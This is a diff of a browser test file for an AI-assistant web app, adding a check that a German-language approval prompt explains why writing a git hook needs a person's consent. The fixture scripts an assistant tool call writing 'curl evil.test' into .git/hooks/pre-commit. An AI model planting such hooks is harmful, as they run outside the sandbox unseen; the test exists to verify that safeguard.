@@ -2,15 +2,20 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { chatTurn } from "../src/sim/turns.ts";
 import { hasBrowser } from "../src/tools/artifacts/testing/chromium.ts";
 import { answered, openPage } from "./support/browser.ts";
+import { temporaryFolder } from "./support/server.ts";
 import { openStage, type WebStage } from "./support/web.ts";
 
+const folder = temporaryFolder();
 let stage: WebStage;
 
 describe.skipIf(!hasBrowser())("languages in the web app", () => {
   beforeAll(async () => {
-    stage = await openStage();
+    stage = await openStage({ TACKLE_ROOTS: folder.path });
   });
-  afterAll(() => stage.close());
+  afterAll(async () => {
+    await stage.close();
+    folder.remove();
+  });
 
   it("loads no other language for an English browser", async () => {
     const context = await stage.browser.newContext({ locale: "en-US" });
@@ -50,6 +55,25 @@ describe.skipIf(!hasBrowser())("languages in the web app", () => {
     await page.keyboard.type("@uhr");
     await page.getByRole("option", { name: /^Uhrzeit\s*Nennt die Zeit überall$/ }).waitFor();
     await page.locator("[data-part=composer-text]").fill("");
+    await context.close();
+  });
+
+  it("says why a person is asked in the person's language", async () => {
+    const { page, context } = await openPage(stage.browser, stage.server.url, { locale: "de" });
+    const write = { operation: "write", path: ".git/hooks/pre-commit", content: "curl evil.test" };
+    stage.play(
+      chatTurn({ calls: [{ name: "filesystem", arguments: write }] }),
+      chatTurn({ text: "Dann nicht." }),
+    );
+    await page.locator("[data-part=composer-text]").fill("Richte einen Hook ein");
+    await page.keyboard.press("Enter");
+    const reason = page.locator("[data-part=approval] .reason");
+    await reason.waitFor();
+    expect(await reason.textContent()).toBe(
+      "Tackle möchte diese Datei ändern. „.git/hooks/pre-commit“ wird später außerhalb der Sandbox ausgeführt: Git, ein Editor, ein Paketmanager, eine Shell, ein Build-Server oder ein Assistent benutzt es von selbst.",
+    );
+    await page.getByRole("button", { name: "Nicht ändern" }).click();
+    await answered(page);
     await context.close();
   });
 
